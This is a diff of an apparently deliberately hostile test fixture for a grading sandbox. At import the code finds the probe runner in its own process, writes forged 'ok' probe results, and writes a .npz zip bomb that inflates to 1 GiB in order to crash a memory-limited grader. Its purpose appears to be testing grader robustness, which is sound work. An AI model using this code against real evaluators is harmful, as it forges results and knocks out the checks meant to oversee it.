@@ -7,41 +7,49 @@ import zipfile
 
 import numpy as np
 
-JOB = os.path.abspath(sys.argv[1])   # the probe runner is started with the job folder as its argument
-OUT = os.path.join(JOB, 'out')
-with open(os.path.join(JOB, 'job.json')) as f:
+
+class GPT:   # one of the handout's classes: a file with none of them is refused before the sandbox
+    pass
+
+
+def _runner():
+    """The probe runner importing this file (child/runner.py, already loaded in this process)."""
+    for name, module in list(sys.modules.items()):
+        if name.endswith('runner') and hasattr(module, 'write_result') and getattr(module, 'JOB_DIR', None):
+            return module
+    raise RuntimeError('HOSTILE: no probe runner in this process')
+
+
+RUNNER = _runner()
+with open(os.path.join(RUNNER.JOB_DIR, 'job.json')) as f:
     job = json.load(f)
-PROBES = list(job['probes'])
+PROBE, OUT = job['probe'], job['paths']['out']
+ALL_PROBES = sorted(RUNNER.probe_table())   # the same table in every probe process
 
 
-def report(probe, text='{"status": "ok", "seconds": 0.0}'):
+def report(text='{"status": "ok", "seconds": 0.0}', probe=PROBE):
     with open(os.path.join(OUT, probe + '.json'), 'w') as f:
         f.write(text)
 
 
-def announce_all_done():
-    with open(os.path.join(OUT, 'progress'), 'a') as f:
-        for p in ['import'] + PROBES:
-            f.write('start %s\nend %s\n' % (p, p))
+def arrays_path(probe=PROBE):
+    return os.path.join(OUT, probe + '.npz')
 
-
-report('import')
 
 # HOSTILE: every probe's .npz holds one deflated member that inflates to 1 GiB of zeros (about
 # 1 MB on disk); reading it whole kills a grader limited to 768 MB
-HEADER = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (1 << 30)).encode()
-HEADER = b'\x93NUMPY\x01\x00' + (118).to_bytes(2, 'little') + HEADER.ljust(117) + b'\n'
-bomb = os.path.join(OUT, '.bomb')
-with zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
-    with z.open('d2_T5.npy', 'w') as m:
-        m.write(HEADER)
-        chunk = bytes(1 << 20)
-        for _ in range(1024):
-            m.write(chunk)
-data = open(bomb, 'rb').read()
-for probe in PROBES:
-    report(probe)
-    with open(os.path.join(OUT, probe + '.npz'), 'wb') as f:
-        f.write(data)
-announce_all_done()
-os._exit(0)
+def forge():
+    header = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (1 << 30)).encode()
+    header = b'\x93NUMPY\x01\x00' + (118).to_bytes(2, 'little') + header.ljust(117) + b'\n'
+    report()
+    with zipfile.ZipFile(arrays_path(), 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
+        with z.open('d2_T5.npy', 'w') as m:
+            m.write(header)
+            chunk = bytes(1 << 20)
+            for _ in range(1024):
+                m.write(chunk)
+
+
+if PROBE != 'import':
+    forge()
+    os._exit(0)
